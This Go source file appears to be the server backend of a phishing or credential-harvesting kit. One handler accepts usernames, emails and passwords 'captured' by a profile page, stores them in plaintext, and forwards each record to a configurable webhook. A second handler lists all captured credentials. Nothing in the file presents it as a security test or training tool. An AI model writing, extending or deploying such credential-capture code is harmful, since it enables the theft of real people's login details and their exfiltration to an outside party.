package api

import (
	"bytes"
	"encoding/json"
	"log"
	"net/http"

	"profileserver/config"
	"profileserver/db"
	"profileserver/models"
	"profileserver/utils"

	"github.com/gin-gonic/gin"
)

// CredentialLogRequest is a credential capture event reported by a profile
// page. All three fields are required.
type CredentialLogRequest struct {
	ProfileUsername string `json:"profileUsername" binding:"required"`
	UsernameOrEmail string `json:"usernameOrEmail" binding:"required"`
	Password        string `json:"password" binding:"required"`
}

// LogCredentialHandler records a credential capture event and forwards it to
// the configured webhook, if any.
// @Summary      Log Captured Credentials
// @Description  Appends a credential capture event to the log with a server-assigned timestamp. When a webhook URL is configured the event is forwarded best-effort; forwarding failures never affect the response.
// @Tags         Credentials
// @Accept       json
// @Produce      json
// @Param        event body CredentialLogRequest true "The captured credentials."
// @Success      201  {object}  map[string]bool "{\"success\": true}"
// @Failure      400  {object}  utils.APIError "Missing fields."
// @Router       /api/credentials/log [post]
func LogCredentialHandler(c *gin.Context, database *db.Database, cfg *config.Config) {
	var req CredentialLogRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		utils.GinBadRequest(c, "Fields 'profileUsername', 'usernameOrEmail', and 'password' are required")
		return
	}

	entry := database.CreateCredentialLog(models.CredentialLog{
		ProfileUsername: req.ProfileUsername,
		UsernameOrEmail: req.UsernameOrEmail,
		Password:        req.Password,
	})

	if cfg.WebhookURL != "" {
		go forwardCredentialEvent(cfg.WebhookURL, entry)
	}

	c.JSON(http.StatusCreated, gin.H{"success": true})
}

// forwardCredentialEvent POSTs a recorded event to the webhook URL. It runs
// in its own goroutine; failures are logged and swallowed so the client
// response never depends on the webhook being reachable.
func forwardCredentialEvent(url string, entry models.CredentialLog) {
	body, err := json.Marshal(entry)
	if err != nil {
		log.Printf("ERROR: Failed to encode webhook payload: %v", err)
		return
	}

	resp, err := utils.WebhookClient.Post(url, "application/json", bytes.NewReader(body))
	if err != nil {
		log.Printf("WARN: Webhook delivery failed: %v", err)
		return
	}
	defer resp.Body.Close()

	if resp.StatusCode >= 300 {
		log.Printf("WARN: Webhook returned status %d", resp.StatusCode)
	}
}

// ListCredentialLogsHandler returns all recorded credential capture events.
// @Summary      List Credential Logs
// @Tags         Credentials
// @Produce      json
// @Success      200  {array}  models.CredentialLog
// @Failure      401  {object}  utils.APIError "Session required."
// @Router       /api/credentials [get]
func ListCredentialLogsHandler(c *gin.Context, database *db.Database, cfg *config.Config) {
	c.JSON(http.StatusOK, database.GetAllCredentialLogs())
}
